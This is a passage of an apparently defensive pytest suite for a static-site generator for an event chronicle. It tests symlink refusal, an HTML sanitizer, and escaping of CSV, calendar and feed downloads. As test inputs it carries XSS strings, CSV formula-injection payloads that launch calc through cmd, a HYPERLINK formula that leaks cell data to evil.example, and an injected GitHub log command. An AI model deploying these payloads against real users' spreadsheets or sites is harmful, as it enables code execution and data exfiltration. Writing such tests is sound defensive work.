    rels = sorted(
        a["rel"]
        for t, a, _ in page.elements
        if t == "a" and "event-" in a.get("class", "") and "rel" in a
    )
    assert rels == ["next", "prev"]


def test_every_internal_link_and_anchor_resolves(hostile_site):
    assert broken_links(hostile_site, "/the-chronicle/") == []


# --- attacks made by the tests -------------------------------------------------------------


def test_symlink_to_a_file_outside_content_is_refused(tmp_path):
    content = _content_with(tmp_path)
    secret = tmp_path / "secret.md"
    secret.write_text("---\nname: Secret\n---\nOutside.\n")
    (content / "actors" / "leak.md").symlink_to(secret)
    leak = "content/actors/leak.md:1: file: resolves outside the content folder"
    assert _errors(content) == [leak]


def test_symlinked_folders_are_refused_inside_or_out(tmp_path):
    content = _content_with(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (content / "events" / "outside").symlink_to(tmp_path / "elsewhere")
    (content / "events" / "inside").symlink_to(content / "events" / "2024")
    assert _errors(content) == [
        "content/events/inside:1: file: a linked folder is not followed: copy the files in",
        "content/events/outside:1: file: resolves outside the content folder",
    ]


def test_broken_symlink_is_refused(tmp_path):
    content = _content_with(tmp_path)
    (content / "actors" / "gone.md").symlink_to(tmp_path / "missing.md")
    assert _errors(content) == ["content/actors/gone.md:1: file: cannot be read (a broken link?)"]


def test_file_over_one_megabyte_is_refused_unread(tmp_path):
    content = _content_with(tmp_path)
    big = content / "events" / "2024" / "huge-body.md"
    big.write_text("---\ntitle: Huge\n---\n" + "x" * 2_000_000)
    too_large = "is larger than 1 MB (1,000,000 bytes): split it into several entries"
    assert _errors(content) == [f"content/events/2024/huge-body.md:1: file: {too_large}"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_fifo_is_refused_without_reading_it(tmp_path):
    content = _content_with(tmp_path)
    os.mkfifo(content / "actors" / "pipe.md")
    assert _errors(content) == ["content/actors/pipe.md:1: file: is not a regular file"]


def test_hidden_markdown_file_is_refused_not_dropped(tmp_path):
    content = _content_with(tmp_path)
    shutil.copyfile(FIXTURE / "actors" / "army.md", content / "actors" / ".army-copy.md")
    (content / ".gitkeep").write_text("")
    hidden = "a hidden file is not published: remove the leading dot"
    assert _errors(content) == [f"content/actors/.army-copy.md:1: file: {hidden}"]


def test_page_cannot_take_the_url_of_a_generated_page(tmp_path):
    content = _content_with(tmp_path)
    (content / "actors.md").write_text("# Actors, replaced\n")
    (content / "chronicle").mkdir()
    (content / "chronicle" / "index.md").write_text("# Chronicle, replaced\n")
    assert _errors(content) == [
        "content/actors.md:1: file: this page is generated; rename the file",
        "content/chronicle/index.md:1: file: this page is generated; rename the file",
    ]


def too_many_open(char: str, advice: str) -> str:
    return f"has more than 50 '{char}' open at once: {advice}"


CLOSE_BRACKETS = too_many_open("[", "close them with ']', or write \\[ for a literal '['")
STALLS = {  # body, the line of the problem, its message
    "too-long": (
        "word " * 24_001,
        9,
        "is longer than 100,000 characters: split it into several entries",
    ),
    "open-brackets": ("[" * 5_000, 10, CLOSE_BRACKETS),
    "nested-brackets": ("[" * 3_000 + "]" * 3_000, 10, CLOSE_BRACKETS),
    "open-parentheses": ("[x](" * 3_000, 10, too_many_open("(", "close them with ')'")),
    "unclosed-tags": (
        "a <b c\n" * 3_000,
        60,
        too_many_open("<", "end each tag with '>', or write &lt; for a literal '<'"),
    ),
    "repeated-headings": ("# Same\n" * 1_200, 1_010, "has more than 1,000 headings"),
    "setext-headings": ("Same\n====\n" * 1_200, 2_011, "has more than 1,000 headings"),
    # Headings in blockquotes and list items are numbered as any other.
    "blockquote-headings": ("> # h\n" * 16_000, 1_010, "has more than 1,000 headings"),
    "list-item-headings": ("- # h\n" * 16_000, 1_010, "has more than 1,000 headings"),
    "nested-container-headings": ("1. > - # h\n" * 9_000, 1_010, "has more than 1,000 headings"),
    "blockquote-setext-headings": ("> h\n> ==\n" * 8_000, 2_011, "has more than 1,000 headings"),
    "nested-blockquotes": (
        "> " * 40_000,
        10,
        "is nested too deeply for Markdown (emphasis, quotes or lists)",
    ),
    "mixed-headings": (
        "Same\n----\n   ## Indented\n" * 600,
        1_511,
        "has more than 1,000 headings",
    ),
    "nested-emphasis": (
        "*" * 3_000 + "x" + "*" * 3_000,
        9,
        "is nested too deeply for Markdown (emphasis, quotes or lists)",
    ),
}


@pytest.mark.parametrize("name", sorted(STALLS))
def test_body_that_would_stall_markdown_is_refused(tmp_path, name):
    body, line, message = STALLS[name]  # the body starts on line 9, after the front matter
    content = _content_with(tmp_path)
    head = (FIXTURE / "events/2024/2024-08-agreement.md").read_text().split("---\n")[1]
    (content / "events/2024/2024-08-agreement.md").write_text(f"---\n{head}---\n{body}")
    path = "content/events/2024/2024-08-agreement.md"
    assert _errors(content) == [f"{path}:{line}: body: {message}"]


def test_a_flood_of_problems_is_counted_not_listed():
    problems = check_body("<div>x</div>\n\n" * 150, "f.md", 1)
    assert len(problems) == 101
    assert [str(p) for p in problems[-2:]] == [
        f"f.md:199: body: {tag('div')}",
        "f.md:201: body: and 50 more problems from this line on",
    ]


# --- the body checks and the sanitizer, directly ---------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "Plain text: **bold**, *em*, `code <b>`, a [link](https://example.org), [page](../army/).",
        '<abbr title="Group">G</abbr>, <time datetime="2024-07">July</time>, <q>quoted</q>',
        '<span lang="fr" dir="ltr">mot</span>, H<sub>2</sub>O, <kbd>k</kbd>, <mark>m</mark>',
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "```python\n<script>print('code')</script>\n```",
        "## A heading {#custom-id}\n\nText.",
        "Casualties were <100, and 5 < 7.",
        "Shown as typed: &lt;script&gt; and &lt;b",
        "Mail [us](mailto:desk@example.org), read [this](#sources).",
    ],
)
def test_harmless_bodies_pass(body):
    assert check_body(body, "f.md", 1) == []


def test_markdown_extensions_match_the_site():
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    assert tuple(config.markdown_extensions) == safety.MARKDOWN_EXTENSIONS


def test_sanitizer_keeps_what_the_site_needs():
    page = (
        '<h2 id="claims">Claims<a class="headerlink" href="#claims" title="Permanent link">'
        '\u00b6</a></h2>\n<section class="claims-box" aria-label="Conflicting claims">'
        '<table><thead><tr><th scope="col">Claimant</th></tr></thead><tbody>'
        '<tr id="claim-1" class="superseded"><td class="says"><del>x</del></td></tr>'
        '</tbody></table></section>\n<p><time datetime="2024-07-25">25 July 2024</time> '
        '<sup class="citation"><a href="#source-a">[1]</a></sup></p>\n'
        '<tr class="disputed-row" data-date="2024-07" data-ratio="1.500"></tr>'
        '<div class="sort-controls" hidden=""><button type="button" data-sort="date">by '
        'date</button></div><nav class="event-nav" aria-label="Chronicle">'
        '<a class="event-previous" rel="prev" href="../x/">\u2190 X</a></nav>'
    )
    expected = page.replace(
        '<tr class="disputed-row" data-date="2024-07" data-ratio="1.500"></tr>', ""
    )  # a row outside a table is dropped
    assert sanitize(page) == expected


def test_sanitizer_removes_script_and_marks_external_links():
    dirty = (
        '<p onclick="alert(1)">a<script>alert(1)</script><img src=x onerror=alert(2)>'
        '<a href="javascript:alert(3)">j</a><a href="https://example.org" rel="nofollow">'
        'e</a><a href="//example.org/x">p</a><iframe src="https://e.example"></iframe>'
        '<span style="background:url(x)">s</span><!-- c --></p>'
    )
    assert sanitize(dirty) == (
        '<p>a<img src="x"><a>j</a><a href="https://example.org" rel="noopener noreferrer">e</a>'
        '<a href="//example.org/x" rel="noopener noreferrer">p</a><span>s</span></p>'
    )


# --- file names, logs and ids ----------------------------------------------------------------


def test_a_file_name_is_a_title_shown_as_text(tmp_path):
    content = _content_with(tmp_path)
    (content / "<img src=x onerror=alert(1)> notes.md").write_text("Some notes.\n")
    site = tmp_path / "site"
    done = build_with_mkdocs(content, site)
    assert done.returncode == 0, done.stderr
    file = next(site.glob("*notes/index.html"))
    page = Page(file.read_text(encoding="utf-8"))
    assert page.title == f"<img src=x onerror=alert(1)> notes - {SITE_NAME}"
    assert "<img src=x onerror=alert(1)> notes" in page.text
    assert not [t for t, a, _ in page.elements if t == "img" or "onerror" in a]


def test_a_file_name_cannot_write_a_line_of_the_log(tmp_path):
    content = _content_with(tmp_path)
    (content / "actors" / "x\n::notice title=Injected::owned.md").write_text("---\nname: X\n---\n")
    shown = os.path.relpath(content)
    for style in ("text", "github"):
        result = CliRunner().invoke(main, ["check", "--format", style, str(content)])
        assert result.exit_code == 1
        assert not [line for line in result.output.splitlines() if line.startswith("::notice")]
    result = CliRunner().invoke(main, ["check", str(content)])
    assert result.output.splitlines()[0] == (
        f"{shown}/actors/x\\n::notice title=Injected::owned.md:1: file: its name or folder "
        "has a line break or another control character: rename it"
    )
    done = build_with_mkdocs(content, tmp_path / "site")
    assert done.returncode == 1
    assert not [line for line in done.stderr.splitlines() if "::notice" in line.split(" - ")[0]]
    assert "x\\n::notice title=Injected::owned.md:1: file:" in done.stderr


def test_ids_end_at_the_end_of_the_text():
    from generator.content.vocabulary import ID_RE

    assert ID_RE.match("army") and not ID_RE.match("army\n") and not ID_RE.match("army\n\n")


def test_the_table_of_contents_lists_the_body_headings_before_the_claims(hostile_site):
    page = read_page(hostile_site, "events/body-heading-takes-generated-anchors/")
    toc = [
        a["href"]
        for t, a, _ in page.elements
        if t == "a" and "md-nav__link" in a.get("class", "") and a["href"].startswith("#")
    ]
    first = toc[: toc.index("#sources") + 1]
    assert first == [
        "#text-claims",
        "#text-sources",
        "#text-source-wire-report",
        "#text-topic-1",
        "#claims",
        "#sources",
    ]


def test_the_site_markdown_publishes_each_body_verbatim(tmp_path):
    """Each page's Markdown, read as MkDocs reads it, carries its body's HTML unchanged."""
    import markdown

    from generator.site.render import render_pages

    content = _content_with(tmp_path, *ACCEPTED)
    chronicle = build_chronicle(content, display="content")
    html_of = {e.src: e.html for e in chronicle.events}
    html_of |= {
        e.src: e.html for k in ("actor", "location", "source") for e in chronicle.terms(k).values()
    }
    html_of |= {p.src: p.html for p in chronicle.pages}
    site = markdown.Markdown(extensions=["toc", "tables", "fenced_code", "attr_list"])
    checked = 0
    for page in render_pages(chronicle):
        if page.source is None:
            continue
        text = (
            page.markdown.split("---\n", 2)[2]
            if page.markdown.startswith("---\n")
            else page.markdown
        )
        site.reset()
        assert html_of[page.source] in site.convert(text), page.source
        checked += 1
    assert checked == len(html_of)


def test_headings_get_permalinks_that_a_body_cannot_fake_elsewhere():
    body = render_body("## Losses {: #claims }\n\nText.", "f.md", 1)
    assert body.html == (
        '<h2 id="text-claims">Losses<a class="headerlink" href="#text-claims" '
        'title="Permanent link">\u00b6</a></h2>\n<p>Text.</p>'
    )
    fake = render_body("[badge](#claims){: .headerlink}", "f.md", 1)
    assert [str(p) for p in fake.problems] == [
        "f.md:1: body: attribute class= on <a> is not allowed; allowed: datetime, dir, lang, title"
    ]


def test_readme_and_index_of_one_folder_are_one_page_twice(tmp_path):
    content = _content_with(tmp_path)
    (content / "notes").mkdir()
    (content / "notes" / "index.md").write_text("# Notes\n")
    (content / "notes" / "README.md").write_text("# Read me\n")
    assert _errors(content) == [
        f"content/notes/README.md:1: file: {same_output('notes/index.html', 'notes/index.md')}",
        f"content/notes/index.md:1: file: {same_output('notes/index.html', 'notes/README.md')}",
    ]


def test_page_front_matter_of_the_allowed_keys_is_published(tmp_path):
    content = _content_with(tmp_path)
    (content / "notes.md").write_text(
        "---\ntitle: Notes\ndescription: Working notes.\nhide: [toc, navigation]\n---\nText.\n"
    )
    chronicle = build_chronicle(content, display="content")
    (page,) = [p for p in chronicle.pages if p.src == "notes.md"]
    assert (page.title, page.description, page.hide) == (
        "Notes",
        "Working notes.",
        ("toc", "navigation"),
    )
    from generator.site.render import render_pages

    (out,) = [p for p in render_pages(chronicle) if p.path == "notes.md"]
    assert out.markdown.startswith(
        "---\ndescription: Working notes.\nhide:\n- toc\n- navigation\ntitle: Notes\n---\n"
    )


# --- downloads, read by the programs that open them ----------------------------------------

FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def _records(hostile_site: Path) -> dict:
    import json

    return json.loads((hostile_site / "data/events.json").read_text("utf-8"))


@pytest.mark.parametrize("name", ["events.csv", "claims.csv"])
def test_no_cell_of_a_csv_download_starts_a_formula(hostile_site, name):
    import csv
    import io

    import pandas

    path = hostile_site / "data" / name
    # Read as a file (newline=""): a quoted cell may hold a line break (a title, a summary).
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
    records = _records(hostile_site)["events"]
    expected = len(records) if name == "events.csv" else sum(len(e["claims"]) for e in records)
    assert len(rows) == 1 + expected  # no value added a record
    assert {len(row) for row in rows} == {len(rows[0])}
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA) and not NUMBER.match(c)] == []
    frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
    assert frame.shape == (expected, len(rows[0]))
    assert frame.values.tolist() == rows[1:]


def test_formulas_stay_readable_text_in_claims_csv(hostile_site):
    import pandas

    frame = pandas.read_csv(hostile_site / "data/claims.csv", dtype=str, keep_default_na=False)
    rows = frame[frame["event_id"] == "claim-csv-formula"].to_dict("records")
    assert [(r["claimant"], r["about"], r["says"], r["of"]) for r in rows] == [
        (
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+cmd|' /C calc'!A0",
            '\'=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")',
            "'-2+3+cmd|' /C calc'!A0",
        ),
        ("army", "'+cmd|' /C calc'!A0", "'-1+1 was said first", "'-2+3+cmd|' /C calc'!A0"),
    ]
    events = pandas.read_csv(hostile_site / "data/events.csv", dtype=str, keep_default_na=False)
    (row,) = events[events["event_id"] == "claim-csv-formula"].to_dict("records")
    assert row["sub_event_type"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Armed clash")'
    assert float(events["longitude"].iloc[0]) == pytest.approx(float(events["longitude"][0]))


def test_no_value_adds_a_calendar_property_or_event(hostile_site):
    import icalendar

    text = (hostile_site / "data/events.ics").read_bytes().decode("utf-8")
    calendar = icalendar.Calendar.from_ical(text)
    events = calendar.walk("VEVENT")
    records = _records(hostile_site)["events"]
    assert len(events) == len(records)
    lines = text.split("\r\n")
    assert lines.count("BEGIN:VEVENT") == len(records)
    # Each UID is unique to the chronicle: the id, then the site's host and path.
    site = urlsplit(SITE_URL)
    key = site.hostname + site.path.rstrip("/")
    assert [line for line in lines if line.startswith("UID:")] == [
        f"UID:{r['id']}@{key}" for r in records
    ]
    assert {str(e["UID"]).split("@")[0] for e in events} == {r["id"] for r in records}
    (event,) = [e for e in events if str(e["UID"]).startswith("title-ics-line-break@")]
    record = next(r for r in records if r["id"] == "title-ics-line-break")
    assert str(event["SUMMARY"]) == record["title"]
    assert str(event["DESCRIPTION"]).startswith(record["summary"] + "\n\nDate: ")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)


def test_the_feed_is_well_formed_xml_for_feed_readers(hostile_site):
    import xml.etree.ElementTree as ET

    import feedparser

    text = (hostile_site / "feed.xml").read_text("utf-8")
    ET.fromstring(text.encode("utf-8"))
    feed = feedparser.parse(text)
    assert not feed.bozo, feed.get("bozo_exception")
    titles = [e.title for e in feed.entries]
    assert "Ambush\nEND:VEVENT\nBEGIN:VEVENT\nUID:fake@evil.example\nSUMMARY:Fake event" in titles
    assert '<script>alert("title")</script> Battle at the ford' in titles


def test_the_json_downloads_hold_the_values_as_given(hostile_site):
    import json

    for name in ("events.json", "events.geojson"):
        json.loads((hostile_site / "data" / name).read_text("utf-8"))
    (claim, _) = next(
        e for e in _records(hostile_site)["events"] if e["id"] == "claim-csv-formula"
    )["claims"]
    assert claim["says"] == '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Read the report")'


def test_a_claimant_that_looks_like_an_actor_is_a_warning(tmp_path):
    content = _content_with(tmp_path, "events/claimant-lookalike-cyrillic.md")
    chronicle = build_chronicle(content, display="content")
    rel = "content/events/claimant-lookalike-cyrillic.md"
    assert [str(w) for w in chronicle.warnings if w.path == rel] == [
        (
            f"{rel}:11: claims[0].by: warning: 'N\u0430ti\u043en\u0430l \u0410rmy' looks like "
            "the actor 'National Army': give its id 'army' if it is meant, or name the claimant "
            "so it cannot be taken for it"
        )
    ]


@pytest.mark.parametrize(
    ("claimant", "actor"),
    [
        ("\uff2e\uff21", "National Army"),  # full-width NA, an alias
        ("\u0410\u0440\u043c\u0456\u044f", "National Army"),  # the alias itself, typed as words
        ("Nati0nal Arrny", "National Army"),  # a zero and 'rn' for 'm'
        ("R\u0435b\u0435ls", "Rebels"),  # Cyrillic e
        ("army", None),  # the id: the actor itself, no warning
        ("A local official", None),
    ],
)
def test_lookalike_folding(claimant, actor):
    from generator.content.lookalike import lookalike, skeleton

    names = {skeleton(n): n for n in ("National Army", "NA", "\u0410\u0440\u043c\u0456\u044f")}
    names[skeleton("Rebels")] = "Rebels"
    found = lookalike(claimant, names) if not ID_RE_FULL.match(claimant) else None
    assert {"NA": "National Army", "\u0410\u0440\u043c\u0456\u044f": "National Army"}.get(
        found, found
    ) == actor


ID_RE_FULL = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*\Z")


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("notes/About.md", "notes/about.md"),
        ("caf\u00e9.md", "cafe\u0301.md"),  # NFC and NFD
        ("STRASSE.md", "stra\u00dfe.md"),  # case folding, not lowering
    ],
)
def test_pages_that_are_one_file_on_case_insensitive_hosts_are_refused(tmp_path, first, second):
    import unicodedata as ud

    content = _content_with(tmp_path)
    for rel in (first, second):
        (content / rel).parent.mkdir(parents=True, exist_ok=True)
        (content / rel).write_text("# A page\n", encoding="utf-8")
    if (
        len(
            {p.name for p in (content / first).parent.iterdir()}
            & {Path(first).name, Path(second).name}
        )
        < 2
    ):
        pytest.skip("this file system already stores the two names as one file")
    errors = _errors(content)
    at = {rel: rel[:-3] + "/index.html" for rel in (first, second)}
    expected = [
        f"content/{a}:1: file: {same_file(at[a], b, at[b])}"
        for a, b in ((first, second), (second, first))
    ]
    assert sorted(errors) == sorted(expected)
    assert ud.normalize("NFC", first) != ud.normalize("NFC", second) or first != second


def test_a_page_on_an_entry_page_where_case_is_ignored_is_refused(tmp_path):
    content = _content_with(tmp_path)
    (content / "Actors").mkdir()
    (content / "Actors" / "army.md").write_text("# The army, again\n", encoding="utf-8")
    if (content / "actors" / "army.md").read_text("utf-8") == "# The army, again\n":
        pytest.skip("this file system ignores case")
    assert _errors(content) == [
        "content/Actors/army.md:1: file: "
        + same_file("Actors/army/index.html", "actors/army.md", "actors/army/index.html")
    ]
